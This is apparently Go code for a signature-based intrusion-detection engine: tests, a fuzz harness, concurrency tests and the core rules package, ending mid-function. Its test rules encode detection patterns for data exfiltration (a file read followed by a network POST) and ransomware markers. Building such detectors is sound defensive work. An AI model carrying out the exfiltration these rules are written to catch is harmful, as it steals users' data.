	if a := en.Process(at(0, fail)); len(a) != 0 {
		t.Fatal("fired too early")
	}
	if a := en.Process(at(10*time.Second, fail)); len(a) != 0 {
		t.Fatal("fired too early")
	}
	a := en.Process(at(20*time.Second, fail))
	if len(a) != 1 || a[0].Count != 3 || a[0].Group != "6.6.6.6" {
		t.Fatalf("alerts = %+v", a)
	}
	// State resets after firing.
	if a := en.Process(at(25*time.Second, fail)); len(a) != 0 {
		t.Fatal("did not reset after firing")
	}
}

func TestThresholdWindowExpiry(t *testing.T) {
	en := mustEngine(t, &Rule{
		ID: "T2", Class: ClassDoS,
		Conditions: []Condition{{Field: "kind", Equals: "http"}},
		Threshold:  &Threshold{Count: 3, Window: 10 * time.Second, GroupBy: "src_ip"},
	})
	ev := trace.Event{Kind: trace.KindHTTP, SrcIP: "1.1.1.1"}
	en.Process(at(0, ev))
	en.Process(at(5*time.Second, ev))
	// Third event outside the window of the first: only 2 fresh.
	if a := en.Process(at(30*time.Second, ev)); len(a) != 0 {
		t.Fatalf("fired across expired window: %+v", a)
	}
}

func TestThresholdGroupIsolation(t *testing.T) {
	en := mustEngine(t, &Rule{
		ID: "T3", Class: ClassDoS,
		Conditions: []Condition{{Field: "kind", Equals: "http"}},
		Threshold:  &Threshold{Count: 2, Window: time.Minute, GroupBy: "src_ip"},
	})
	en.Process(at(0, trace.Event{Kind: trace.KindHTTP, SrcIP: "a"}))
	if a := en.Process(at(time.Second, trace.Event{Kind: trace.KindHTTP, SrcIP: "b"})); len(a) != 0 {
		t.Fatal("groups leaked")
	}
	if a := en.Process(at(2*time.Second, trace.Event{Kind: trace.KindHTTP, SrcIP: "a"})); len(a) != 1 {
		t.Fatal("group a did not fire")
	}
}

func TestSequenceRule(t *testing.T) {
	en := mustEngine(t, &Rule{
		ID: "S1", Class: ClassExfiltration,
		Sequence: []Stage{
			{Conditions: []Condition{{Field: "kind", Equals: "file_op"}, {Field: "op", Equals: "read"}}},
			{Conditions: []Condition{{Field: "kind", Equals: "net_op"}}, Within: time.Minute},
		},
	})
	// Benign interleaved traffic must not reset progress.
	en.Process(at(0, trace.Event{Kind: trace.KindFileOp, Op: "read", User: "m"}))
	en.Process(at(time.Second, trace.Event{Kind: trace.KindHTTP, User: "m"}))
	a := en.Process(at(2*time.Second, trace.Event{Kind: trace.KindNetOp, Op: "POST", User: "m"}))
	if len(a) != 1 || a[0].RuleID != "S1" {
		t.Fatalf("alerts = %+v", a)
	}
}

func TestSequenceWithinTimeout(t *testing.T) {
	en := mustEngine(t, &Rule{
		ID: "S2", Class: ClassExfiltration,
		Sequence: []Stage{
			{Conditions: []Condition{{Field: "op", Equals: "read"}}},
			{Conditions: []Condition{{Field: "op", Equals: "POST"}}, Within: time.Minute},
		},
	})
	en.Process(at(0, trace.Event{Kind: trace.KindFileOp, Op: "read", User: "m"}))
	// Second stage too late: sequence restarts; POST doesn't match stage 0.
	if a := en.Process(at(5*time.Minute, trace.Event{Kind: trace.KindNetOp, Op: "POST", User: "m"})); len(a) != 0 {
		t.Fatalf("slow sequence fired: %+v", a)
	}
}

func TestSequenceGroupsByUser(t *testing.T) {
	en := mustEngine(t, &Rule{
		ID: "S3", Class: ClassExfiltration,
		Sequence: []Stage{
			{Conditions: []Condition{{Field: "op", Equals: "read"}}},
			{Conditions: []Condition{{Field: "op", Equals: "POST"}}},
		},
	})
	en.Process(at(0, trace.Event{Kind: trace.KindFileOp, Op: "read", User: "alice"}))
	// Different user completes stage 2: must not fire for bob.
	if a := en.Process(at(time.Second, trace.Event{Kind: trace.KindNetOp, Op: "POST", User: "bob"})); len(a) != 0 {
		t.Fatalf("cross-user sequence fired: %+v", a)
	}
}

func TestOnAlertCallback(t *testing.T) {
	en := mustEngine(t, &Rule{
		ID: "R1", Conditions: []Condition{{Field: "kind", Equals: "exec"}},
	})
	var got []Alert
	en.OnAlert(func(a Alert) { got = append(got, a) })
	en.Emit(at(0, trace.Event{Kind: trace.KindExec}))
	if len(got) != 1 {
		t.Fatalf("callback alerts = %d", len(got))
	}
}

func TestAddRuleAtRuntime(t *testing.T) {
	en := mustEngine(t)
	if en.RuleCount() != 0 {
		t.Fatal("engine not empty")
	}
	err := en.AddRule(&Rule{ID: "HOT1", Conditions: []Condition{{Field: "kind", Equals: "exec"}}})
	if err != nil {
		t.Fatal(err)
	}
	if a := en.Process(at(0, trace.Event{Kind: trace.KindExec})); len(a) != 1 {
		t.Fatal("hot rule did not fire")
	}
}

func TestMarshalUnmarshalRules(t *testing.T) {
	rs := BuiltinRules()
	data, err := MarshalRules(rs)
	if err != nil {
		t.Fatal(err)
	}
	back, err := UnmarshalRules(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(back) != len(rs) {
		t.Fatalf("rules = %d want %d", len(back), len(rs))
	}
	// Round-tripped rules must behave: RW-001 still fires.
	en, err := NewEngine(back)
	if err != nil {
		t.Fatal(err)
	}
	a := en.Process(at(0, trace.Event{Kind: trace.KindExec, Code: "encrypt(x, k)", User: "m"}))
	found := false
	for _, al := range a {
		if al.RuleID == "RW-001-encrypt-call" {
			found = true
		}
	}
	if !found {
		t.Fatalf("RW-001 did not fire after round trip: %+v", a)
	}
}

func TestBuiltinRulesCompile(t *testing.T) {
	for _, r := range BuiltinRules() {
		if err := r.Compile(); err != nil {
			t.Errorf("builtin %s: %v", r.ID, err)
		}
	}
	if len(BuiltinRuleIDs()) < 15 {
		t.Fatalf("only %d builtin rules", len(BuiltinRuleIDs()))
	}
}

func TestBuiltinCoverageOfTaxonomy(t *testing.T) {
	classes := map[string]bool{}
	for _, r := range BuiltinRules() {
		classes[r.Class] = true
	}
	for _, want := range []string{
		ClassRansomware, ClassExfiltration, ClassCryptomining,
		ClassMisconfig, ClassAccountTakeover, ClassDoS, ClassZeroDay,
	} {
		if !classes[want] {
			t.Errorf("no builtin rule for class %s", want)
		}
	}
}

func TestSeverityRank(t *testing.T) {
	order := []Severity{SevInfo, SevLow, SevMedium, SevHigh, SevCritical}
	for i := 1; i < len(order); i++ {
		if order[i].Rank() <= order[i-1].Rank() {
			t.Fatalf("severity ordering broken at %s", order[i])
		}
	}
	if Severity("martian").Rank() != -1 {
		t.Fatal("unknown severity rank")
	}
}

func TestAlertsByClassAndReset(t *testing.T) {
	en := mustEngine(t,
		&Rule{ID: "A", Class: "c1", Conditions: []Condition{{Field: "kind", Equals: "exec"}}},
		&Rule{ID: "B", Class: "c2", Conditions: []Condition{{Field: "kind", Equals: "http"}}},
	)
	en.Process(at(0, trace.Event{Kind: trace.KindExec}))
	en.Process(at(1, trace.Event{Kind: trace.KindHTTP}))
	by := en.AlertsByClass()
	if len(by["c1"]) != 1 || len(by["c2"]) != 1 {
		t.Fatalf("by class = %v", by)
	}
	en.Reset()
	if len(en.Alerts()) != 0 || en.Evaluated() != 0 {
		t.Fatal("reset incomplete")
	}
}

func TestSortAlerts(t *testing.T) {
	alerts := []Alert{
		{RuleID: "B", Time: t0.Add(time.Second)},
		{RuleID: "A", Time: t0.Add(time.Second)},
		{RuleID: "C", Time: t0},
	}
	SortAlerts(alerts)
	ids := []string{alerts[0].RuleID, alerts[1].RuleID, alerts[2].RuleID}
	if strings.Join(ids, "") != "CAB" {
		t.Fatalf("order = %v", ids)
	}
}

func TestFieldValueCoverage(t *testing.T) {
	e := trace.Event{
		Kind: trace.KindKernMsg, SrcIP: "1.2.3.4", DstIP: "5.6.7.8",
		User: "u", Session: "s", Method: "GET", Path: "/p", Status: 200,
		WSOpcode: "text", MsgType: "execute_request", Channel: "shell",
		KernelID: "k1", Code: "c", Op: "o", Target: "t", Bytes: 9,
		Entropy: 1.5, Success: true, Detail: "d", CPUMillis: 7,
	}
	fields := map[string]string{
		"kind": "kern_msg", "src_ip": "1.2.3.4", "dst_ip": "5.6.7.8",
		"user": "u", "session": "s", "method": "GET", "path": "/p",
		"status": "200", "ws_opcode": "text", "msg_type": "execute_request",
		"channel": "shell", "kernel_id": "k1", "code": "c", "op": "o",
		"target": "t", "bytes": "9", "entropy": "1.5", "success": "true",
		"detail": "d", "cpu_millis": "7",
	}
	for f, want := range fields {
		if got := FieldValue(&e, f); got != want {
			t.Errorf("FieldValue(%s) = %q want %q", f, got, want)
		}
	}
}
