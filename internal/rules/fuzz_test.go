package rules

import (
	"testing"
)

// FuzzUnmarshalRules feeds hostile JSON rulesets to the exchange
// decoder: it must never panic, and any ruleset it accepts must
// survive a marshal/unmarshal round trip (the honeypot → production
// distribution path depends on that).
func FuzzUnmarshalRules(f *testing.F) {
	if seed, err := MarshalRules(BuiltinRules()); err == nil {
		f.Add(seed)
	}
	f.Add([]byte(`[]`))
	f.Add([]byte(`[{"id":"a","conditions":[{"field":"kind","equals":"exec"}]}]`))
	f.Add([]byte(`[{"id":"b","conditions":[{"field":"code","regex":"("}]}]`))
	f.Add([]byte(`[{"id":"c","threshold":{"count":-1}}]`))
	f.Add([]byte(`[{"id":"d","sequence":[{"conditions":[{"field":"op","equals":"read"}],"within":9e18}]}]`))
	f.Add([]byte(`{"not":"a list"}`))
	f.Add([]byte(`[null]`))
	f.Add([]byte{0xff, 0xfe, '['})

	f.Fuzz(func(t *testing.T, data []byte) {
		rs, err := UnmarshalRules(data)
		if err != nil {
			return
		}
		wire, err := MarshalRules(rs)
		if err != nil {
			t.Fatalf("accepted ruleset does not marshal: %v", err)
		}
		back, err := UnmarshalRules(wire)
		if err != nil {
			t.Fatalf("round trip rejected: %v\n%s", err, wire)
		}
		if len(back) != len(rs) {
			t.Fatalf("round trip changed rule count: %d -> %d", len(rs), len(back))
		}
		for i := range rs {
			if back[i].ID != rs[i].ID {
				t.Fatalf("rule %d id changed: %q -> %q", i, rs[i].ID, back[i].ID)
			}
		}
	})
}
