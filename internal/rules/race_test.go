package rules

import (
	"fmt"
	"sort"
	"sync"
	"testing"
	"time"

	"repro/internal/trace"
)

// raceRules builds a ruleset exercising every stateful path: a plain
// signature, a grouped threshold, and a grouped sequence.
func raceRules(t testing.TB) []*Rule {
	t.Helper()
	return []*Rule{
		{
			ID: "R-plain", Description: "plain exec marker", Class: "zero_day",
			Severity: SevLow,
			Conditions: []Condition{
				{Field: "kind", Equals: "exec"},
				{Field: "code", Contains: "marker()"},
			},
		},
		{
			ID: "R-thresh", Description: "burst per user", Class: "ransomware",
			Severity: SevHigh,
			Conditions: []Condition{
				{Field: "kind", Equals: "file_op"},
				{Field: "op", Equals: "write"},
			},
			Threshold: &Threshold{Count: 5, Window: time.Minute, GroupBy: "user"},
		},
		{
			ID: "R-seq", Description: "read then post per user", Class: "data_exfiltration",
			Severity: SevCritical,
			Sequence: []Stage{
				{Conditions: []Condition{
					{Field: "kind", Equals: "file_op"},
					{Field: "op", Equals: "read"},
				}},
				{Conditions: []Condition{
					{Field: "kind", Equals: "net_op"},
					{Field: "op", Equals: "POST"},
				}, Within: time.Hour},
			},
		},
	}
}

// actorStream builds one actor's in-order event stream: enough writes
// to fire the threshold twice, plus a read→POST pair for the sequence
// and one plain match.
func actorStream(user string, base time.Time) []trace.Event {
	var evs []trace.Event
	at := func(i int) time.Time { return base.Add(time.Duration(i) * time.Second) }
	for i := 0; i < 10; i++ {
		evs = append(evs, trace.Event{
			Kind: trace.KindFileOp, Op: "write", User: user, Time: at(i),
		})
	}
	evs = append(evs,
		trace.Event{Kind: trace.KindExec, Code: "marker()", User: user, Time: at(10)},
		trace.Event{Kind: trace.KindFileOp, Op: "read", User: user, Time: at(11)},
		trace.Event{Kind: trace.KindNetOp, Op: "POST", User: user, Time: at(12)},
	)
	return evs
}

// alertKey flattens the identity of an alert for set comparison.
func alertKey(a Alert) string {
	return fmt.Sprintf("%s|%s|%d|%s", a.RuleID, a.Group, a.Count, a.Time.UTC().Format(time.RFC3339Nano))
}

func sortedKeys(alerts []Alert) []string {
	keys := make([]string, len(alerts))
	for i, a := range alerts {
		keys[i] = alertKey(a)
	}
	sort.Strings(keys)
	return keys
}

// TestConcurrentProcessMatchesSerial drives 16 goroutines — each a
// distinct correlation group — through one engine under the race
// detector and checks the alert set is identical to a serial run.
func TestConcurrentProcessMatchesSerial(t *testing.T) {
	base := time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)
	const goroutines = 16

	streams := make([][]trace.Event, goroutines)
	for i := range streams {
		streams[i] = actorStream(fmt.Sprintf("user-%02d", i), base)
	}

	serial, err := NewEngine(raceRules(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, st := range streams {
		for _, e := range st {
			serial.Process(e)
		}
	}

	concurrent, err := NewEngine(raceRules(t))
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for i := 0; i < goroutines; i++ {
		wg.Add(1)
		go func(st []trace.Event) {
			defer wg.Done()
			for _, e := range st {
				concurrent.Process(e)
			}
		}(streams[i])
	}
	wg.Wait()

	if got, want := concurrent.Evaluated(), serial.Evaluated(); got != want {
		t.Fatalf("evaluated = %d, want %d", got, want)
	}
	sa, ca := serial.Alerts(), concurrent.Alerts()
	if len(ca) != len(sa) {
		t.Fatalf("alert count = %d, want %d", len(ca), len(sa))
	}
	sk, ck := sortedKeys(sa), sortedKeys(ca)
	for i := range sk {
		if sk[i] != ck[i] {
			t.Fatalf("alert sets diverge at %d:\nserial    %s\nconcurrent %s", i, sk[i], ck[i])
		}
	}
}

// TestConcurrentBatchAndStatsReads mixes ProcessBatch with hot stats
// reads and runtime rule loads — the contention pattern the atomic
// counters and RWMutex exist for.
func TestConcurrentBatchAndStatsReads(t *testing.T) {
	en, err := NewEngine(BuiltinRules())
	if err != nil {
		t.Fatal(err)
	}
	base := time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			en.ProcessBatch(actorStream(fmt.Sprintf("batch-user-%d", i), base))
		}(i)
	}
	wg.Add(2)
	go func() {
		defer wg.Done()
		for i := 0; i < 200; i++ {
			_ = en.Evaluated()
			_ = en.RuleCount()
		}
	}()
	go func() {
		defer wg.Done()
		for i := 0; i < 5; i++ {
			err := en.AddRule(&Rule{
				ID: fmt.Sprintf("HOT-%d", i), Class: "zero_day", Severity: SevLow,
				Conditions: []Condition{
					{Field: "kind", Equals: "exec"},
					{Field: "code", Contains: fmt.Sprintf("never-%d", i)},
				},
			})
			if err != nil {
				t.Error(err)
			}
		}
	}()
	wg.Wait()
	if en.Evaluated() != 8*13 {
		t.Fatalf("evaluated = %d, want %d", en.Evaluated(), 8*13)
	}
}

// TestKindIndexMatchesLinearScan replays one actor stream through the
// indexed engine and a single-candidate-list variant built from the
// same rules, ensuring indexing never changes which rules fire.
func TestKindIndexMatchesLinearScan(t *testing.T) {
	evs := actorStream("idx-user", time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC))
	// Force every rule onto the wildcard path by removing kind pins.
	wild := []*Rule{{
		ID: "W-any-write", Description: "any write", Class: "ransomware",
		Severity:   SevLow,
		Conditions: []Condition{{Field: "op", Equals: "write"}},
		Threshold:  &Threshold{Count: 5, Window: time.Minute, GroupBy: "user"},
	}}
	indexed, err := NewEngine(append(raceRules(t), wild...))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range evs {
		indexed.Process(e)
	}
	// 10 writes: R-thresh fires at 5 and 10; W-any-write likewise.
	counts := map[string]int{}
	for _, a := range indexed.Alerts() {
		counts[a.RuleID]++
	}
	want := map[string]int{"R-plain": 1, "R-thresh": 2, "R-seq": 1, "W-any-write": 2}
	for id, n := range want {
		if counts[id] != n {
			t.Fatalf("rule %s fired %d times, want %d (all: %v)", id, counts[id], n, counts)
		}
	}
}
