// Package rules implements the declarative signature engine of the
// monitoring tool: rules match trace events by field predicates,
// regular expressions, windowed thresholds, and ordered sequences, and
// produce alerts tagged with the taxonomy class they indicate.
//
// Rules are the mechanism the paper's honeypot pipeline distributes:
// a signature extracted at the network edge is serialized as JSON and
// loaded into production monitors.
//
// The Engine is the detection substrate's hot path and is built for
// multi-core streaming: rules are indexed by the event kind they can
// match, stateless matching is lock-free, and threshold/sequence
// correlation state is sharded per group so concurrent Process calls
// from independent actors never serialize. See DESIGN.md ("Detection
// pipeline v2").
package rules

import (
	"encoding/json"
	"fmt"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/trace"
)

// Severity grades an alert.
type Severity string

// Severities in ascending order.
const (
	SevInfo     Severity = "info"
	SevLow      Severity = "low"
	SevMedium   Severity = "medium"
	SevHigh     Severity = "high"
	SevCritical Severity = "critical"
)

// KnownSeverities returns the severity names in ascending rank order
// — the valid values for CLI severity filters.
func KnownSeverities() []Severity {
	return []Severity{SevInfo, SevLow, SevMedium, SevHigh, SevCritical}
}

// ParseSeverity resolves a severity name, reporting whether it is one
// of the known severities. CLI flag parsing uses it so a typo becomes
// a usage error instead of a filter that silently matches nothing.
func ParseSeverity(s string) (Severity, bool) {
	switch Severity(s) {
	case SevInfo, SevLow, SevMedium, SevHigh, SevCritical:
		return Severity(s), true
	}
	return "", false
}

// Rank orders severities (higher is worse).
func (s Severity) Rank() int {
	switch s {
	case SevInfo:
		return 0
	case SevLow:
		return 1
	case SevMedium:
		return 2
	case SevHigh:
		return 3
	case SevCritical:
		return 4
	}
	return -1
}

// Condition is one field predicate. Exactly one operator group is
// used: Equals, Regex, Contains, or the numeric comparisons.
type Condition struct {
	Field    string  `json:"field"` // event field name (see FieldValue)
	Equals   string  `json:"equals,omitempty"`
	Contains string  `json:"contains,omitempty"`
	Regex    string  `json:"regex,omitempty"`
	GT       float64 `json:"gt,omitempty"`
	LT       float64 `json:"lt,omitempty"`
	HasGT    bool    `json:"has_gt,omitempty"`
	HasLT    bool    `json:"has_lt,omitempty"`

	re    *regexp.Regexp
	hints []litHint // required-literal guard; empty = none proven
}

// compile prepares the regex and its required-literal guard (see
// prefilter.go).
func (c *Condition) compile() error {
	if c.Regex != "" {
		re, err := regexp.Compile(c.Regex)
		if err != nil {
			return fmt.Errorf("rules: condition on %q: %w", c.Field, err)
		}
		c.re = re
		c.hints = requiredLiterals(c.Regex)
	}
	return nil
}

// FieldValue extracts a named field from an event as a string. Names
// mirror the trace.Event JSON tags; unknown names read from Fields.
// Takes a pointer because it runs once per condition per event on the
// hot path and trace.Event is a large struct; the event is not
// modified.
func FieldValue(e *trace.Event, field string) string {
	switch field {
	case "kind":
		return string(e.Kind)
	case "src_ip":
		return e.SrcIP
	case "dst_ip":
		return e.DstIP
	case "user":
		return e.User
	case "session":
		return e.Session
	case "method":
		return e.Method
	case "path":
		return e.Path
	case "status":
		// Status codes sit in a small range on every real trace; the
		// precomputed table keeps this hot-path lookup allocation-free
		// (strconv.Itoa allocates for values ≥ 100).
		if uint(e.Status) < uint(len(statusStrings)) {
			return statusStrings[e.Status]
		}
		return strconv.Itoa(e.Status)
	case "ws_opcode":
		return e.WSOpcode
	case "msg_type":
		return e.MsgType
	case "channel":
		return e.Channel
	case "kernel_id":
		return e.KernelID
	case "code":
		return e.Code
	case "op":
		return e.Op
	case "target":
		return e.Target
	case "bytes":
		return strconv.FormatInt(e.Bytes, 10)
	case "entropy":
		return strconv.FormatFloat(e.Entropy, 'f', -1, 64)
	case "cpu_millis":
		return strconv.FormatInt(e.CPUMillis, 10)
	case "success":
		return strconv.FormatBool(e.Success)
	case "detail":
		return e.Detail
	default:
		// Inline of e.Field: the value-receiver method would copy the
		// whole event per lookup.
		if e.Fields == nil {
			return ""
		}
		return e.Fields[field]
	}
}

// statusStrings caches the decimal form of every plausible status
// code so FieldValue("status") never allocates on the hot path.
var statusStrings = func() (t [1000]string) {
	for i := range t {
		t[i] = strconv.Itoa(i)
	}
	return
}()

// numericValue extracts a field as float64 for gt/lt comparisons.
func numericValue(e *trace.Event, field string) (float64, bool) {
	switch field {
	case "bytes":
		return float64(e.Bytes), true
	case "entropy":
		return e.Entropy, true
	case "cpu_millis":
		return float64(e.CPUMillis), true
	case "status":
		return float64(e.Status), true
	}
	if v := FieldValue(e, field); v != "" {
		if f, err := strconv.ParseFloat(v, 64); err == nil {
			return f, true
		}
	}
	return 0, false
}

// Match evaluates the condition against an event. The pointer avoids
// copying the event once per condition; the event is not modified.
func (c *Condition) Match(e *trace.Event) bool {
	if c.HasGT || c.HasLT {
		v, ok := numericValue(e, c.Field)
		if !ok {
			return false
		}
		if c.HasGT && !(v > c.GT) {
			return false
		}
		if c.HasLT && !(v < c.LT) {
			return false
		}
		return true
	}
	v := FieldValue(e, c.Field)
	switch {
	case c.Equals != "":
		return v == c.Equals
	case c.Contains != "":
		return strings.Contains(v, c.Contains)
	case c.re != nil:
		if len(c.hints) > 0 && !matchHints(v, c.hints) {
			return false
		}
		return c.re.MatchString(v)
	case c.Regex != "":
		// Uncompiled rule used directly; compile lazily.
		if err := c.compile(); err != nil {
			return false
		}
		if len(c.hints) > 0 && !matchHints(v, c.hints) {
			return false
		}
		return c.re.MatchString(v)
	}
	return v != ""
}

// GTCond builds a numeric greater-than condition.
func GTCond(field string, v float64) Condition {
	return Condition{Field: field, GT: v, HasGT: true}
}

// LTCond builds a numeric less-than condition.
func LTCond(field string, v float64) Condition {
	return Condition{Field: field, LT: v, HasLT: true}
}

// Rule is one signature. A rule fires when all Conditions match a
// single event; if Threshold is set, it fires only after Count
// matching events from the same group (keyed by GroupBy) inside
// Window; if Sequence is set, the stages must match in order for the
// same group.
type Rule struct {
	ID          string      `json:"id"`
	Description string      `json:"description"`
	Class       string      `json:"class"` // taxonomy class this indicates
	Severity    Severity    `json:"severity"`
	Conditions  []Condition `json:"conditions,omitempty"`
	Threshold   *Threshold  `json:"threshold,omitempty"`
	Sequence    []Stage     `json:"sequence,omitempty"`
	References  []string    `json:"references,omitempty"` // CVEs, write-ups
}

// Threshold fires after Count matches within Window per group.
type Threshold struct {
	Count   int           `json:"count"`
	Window  time.Duration `json:"window"`
	GroupBy string        `json:"group_by"` // field name; "" = global
}

// Stage is one step of a sequence rule.
type Stage struct {
	Conditions []Condition   `json:"conditions"`
	Within     time.Duration `json:"within"` // max gap from previous stage (0 = unlimited)
}

// Compile validates the rule and prepares regexes.
func (r *Rule) Compile() error {
	if r.ID == "" {
		return fmt.Errorf("rules: rule without id")
	}
	if r.Severity == "" {
		r.Severity = SevMedium
	}
	for i := range r.Conditions {
		if err := r.Conditions[i].compile(); err != nil {
			return fmt.Errorf("rule %s: %w", r.ID, err)
		}
	}
	for si := range r.Sequence {
		for i := range r.Sequence[si].Conditions {
			if err := r.Sequence[si].Conditions[i].compile(); err != nil {
				return fmt.Errorf("rule %s stage %d: %w", r.ID, si, err)
			}
		}
	}
	if len(r.Conditions) == 0 && len(r.Sequence) == 0 {
		return fmt.Errorf("rule %s: no conditions or sequence", r.ID)
	}
	if r.Threshold != nil && r.Threshold.Count <= 0 {
		return fmt.Errorf("rule %s: threshold count must be positive", r.ID)
	}
	return nil
}

func matchAll(conds []Condition, e *trace.Event) bool {
	for i := range conds {
		if !conds[i].Match(e) {
			return false
		}
	}
	return true
}

// Alert is a fired rule.
type Alert struct {
	RuleID      string      `json:"rule_id"`
	Class       string      `json:"class"`
	Severity    Severity    `json:"severity"`
	Description string      `json:"description"`
	Time        time.Time   `json:"time"`
	Group       string      `json:"group,omitempty"`
	Trigger     trace.Event `json:"trigger"`
	Count       int         `json:"count,omitempty"`
}

// Engine evaluates a ruleset over an event stream. It is safe for
// concurrent use from many goroutines and is built so the hot path
// scales with cores:
//
//   - Compiled rules are indexed by the event Kind they can match, so
//     Process only visits candidate rules instead of the whole set.
//   - Stateless condition matching runs under a read lock only (the
//     rule set is copy-on-write; AddRule is the rare writer).
//   - Stateful threshold/sequence tracking lives in per-group shards
//     (FNV hash of ruleID+group), so two actors' correlation state
//     never contends on one lock.
//
// Events for the same correlation group must be fed in time order for
// threshold windows and sequences to behave deterministically;
// different groups may be processed concurrently in any interleaving
// and produce the same alerts as a serial run.
type Engine struct {
	rulesMu sync.RWMutex
	rules   []*Rule
	// byKind maps an event kind to its candidate rules — rules pinned
	// to that kind plus kind-agnostic rules — in registration order.
	// Kinds absent from the map fall back to the wildcard list.
	byKind  map[trace.Kind][]*Rule
	wild    []*Rule
	onAlert func(Alert)

	shards [stateShards]stateShard

	alertsMu sync.Mutex
	alerts   []Alert

	evaluated atomic.Uint64
}

// stateShards is the number of correlation-state shards. 32 keeps lock
// contention negligible at 16+ cores while staying cache-friendly.
const stateShards = 32

// stateShard holds threshold and sequence state for the groups hashed
// to it, keyed by ruleID+"\x00"+group. Both maps are pointer-valued
// so the hot path can look an entry up with a stack-built []byte key
// (the compiler's alloc-free map[string(bytes)] pattern) and mutate
// it in place; a real string key is allocated only when a group is
// seen for the first time.
type stateShard struct {
	mu         sync.Mutex
	thresholds map[string]*threshState
	sequences  map[string]*seqState
}

type threshState struct {
	times []time.Time
}

type seqState struct {
	stage    int
	lastTime time.Time
}

// shardFor picks the shard owning a rule's correlation group via
// FNV-1a over the composite key.
func (en *Engine) shardFor(ruleID, group string) *stateShard {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	for i := 0; i < len(ruleID); i++ {
		h ^= uint64(ruleID[i])
		h *= prime64
	}
	// No separator byte is hashed between ruleID and group: a
	// cross-boundary collision only shares a shard lock, never a
	// state entry (the map key uses a real \x00 separator).
	for i := 0; i < len(group); i++ {
		h ^= uint64(group[i])
		h *= prime64
	}
	return &en.shards[h%stateShards]
}

// stateKey appends the composite correlation key to dst. Callers pass
// a stack array's prefix so the common case builds the key without a
// heap allocation; map lookups then use the m[string(key)] form the
// compiler compiles down to a no-copy lookup.
func stateKey(dst []byte, ruleID, group string) []byte {
	dst = append(dst, ruleID...)
	dst = append(dst, 0)
	return append(dst, group...)
}

// ruleKinds returns the event kinds a compiled rule can possibly
// match, or nil when the rule is kind-agnostic. A plain or threshold
// rule is pinned by an equals-condition on the "kind" field; a
// sequence rule is a candidate for every kind any of its stages pins,
// and agnostic if any stage is.
func ruleKinds(r *Rule) []trace.Kind {
	if len(r.Sequence) == 0 {
		if k, ok := condsKind(r.Conditions); ok {
			return []trace.Kind{k}
		}
		return nil
	}
	seen := map[trace.Kind]bool{}
	var out []trace.Kind
	for i := range r.Sequence {
		k, ok := condsKind(r.Sequence[i].Conditions)
		if !ok {
			return nil
		}
		if !seen[k] {
			seen[k] = true
			out = append(out, k)
		}
	}
	return out
}

func condsKind(conds []Condition) (trace.Kind, bool) {
	for i := range conds {
		if conds[i].Field == "kind" && conds[i].Equals != "" {
			return trace.Kind(conds[i].Equals), true
		}
	}
	return "", false
}

// rebuildIndexLocked recomputes byKind/wild from en.rules. Callers
// hold rulesMu for writing.
func (en *Engine) rebuildIndexLocked() {
	perKind := map[trace.Kind][]*Rule{}
	var wild []*Rule
	for _, r := range en.rules {
		ks := ruleKinds(r)
		if ks == nil {
			wild = append(wild, r)
			continue
		}
		for _, k := range ks {
			perKind[k] = append(perKind[k], r)
		}
	}
	// Merge the wildcard rules into each kind's candidate list in
	// registration order, so evaluation order (and hence alert order
	// within one event) is identical to a linear scan of en.rules.
	pos := map[*Rule]int{}
	for i, r := range en.rules {
		pos[r] = i
	}
	byKind := make(map[trace.Kind][]*Rule, len(perKind))
	for k, rs := range perKind {
		merged := make([]*Rule, 0, len(rs)+len(wild))
		merged = append(merged, rs...)
		merged = append(merged, wild...)
		sort.Slice(merged, func(i, j int) bool { return pos[merged[i]] < pos[merged[j]] })
		byKind[k] = merged
	}
	en.byKind = byKind
	en.wild = wild
}

// NewEngine returns an engine with the given compiled rules.
func NewEngine(ruleset []*Rule) (*Engine, error) {
	for _, r := range ruleset {
		if err := r.Compile(); err != nil {
			return nil, err
		}
	}
	en := &Engine{rules: ruleset}
	for i := range en.shards {
		en.shards[i].thresholds = map[string]*threshState{}
		en.shards[i].sequences = map[string]*seqState{}
	}
	en.rulesMu.Lock()
	en.rebuildIndexLocked()
	en.rulesMu.Unlock()
	return en, nil
}

// OnAlert registers a callback invoked synchronously for each alert.
func (en *Engine) OnAlert(fn func(Alert)) {
	en.rulesMu.Lock()
	defer en.rulesMu.Unlock()
	en.onAlert = fn
}

// AddRule appends a rule at runtime (threat-intel distribution path).
func (en *Engine) AddRule(r *Rule) error {
	if err := r.Compile(); err != nil {
		return err
	}
	en.rulesMu.Lock()
	defer en.rulesMu.Unlock()
	// Copy-on-write: concurrent Process holds snapshots of the old
	// slices, which stay valid and immutable.
	next := make([]*Rule, len(en.rules)+1)
	copy(next, en.rules)
	next[len(en.rules)] = r
	en.rules = next
	en.rebuildIndexLocked()
	return nil
}

// RuleCount returns the number of loaded rules.
func (en *Engine) RuleCount() int {
	en.rulesMu.RLock()
	defer en.rulesMu.RUnlock()
	return len(en.rules)
}

// Evaluated returns the number of events processed.
func (en *Engine) Evaluated() uint64 {
	return en.evaluated.Load()
}

// Emit implements trace.Sink: every event is evaluated against the
// candidate rules for its kind.
func (en *Engine) Emit(e trace.Event) {
	en.Process(e)
}

// Process evaluates one event and returns any alerts fired.
func (en *Engine) Process(e trace.Event) []Alert {
	return en.process(&e)
}

// process is the pointer-threaded core of Process: one trace.Event
// copy at the exported boundary (or none, via ProcessBatch) instead
// of one per rule evaluation.
func (en *Engine) process(e *trace.Event) []Alert {
	en.evaluated.Add(1)
	en.rulesMu.RLock()
	candidates, ok := en.byKind[e.Kind]
	if !ok {
		candidates = en.wild
	}
	onAlert := en.onAlert
	en.rulesMu.RUnlock()

	var fired []Alert
	for _, r := range candidates {
		if a, ok := en.evalRule(r, e); ok {
			fired = append(fired, a)
		}
	}
	if len(fired) > 0 {
		en.alertsMu.Lock()
		en.alerts = append(en.alerts, fired...)
		en.alertsMu.Unlock()
		if onAlert != nil {
			for _, a := range fired {
				onAlert(a)
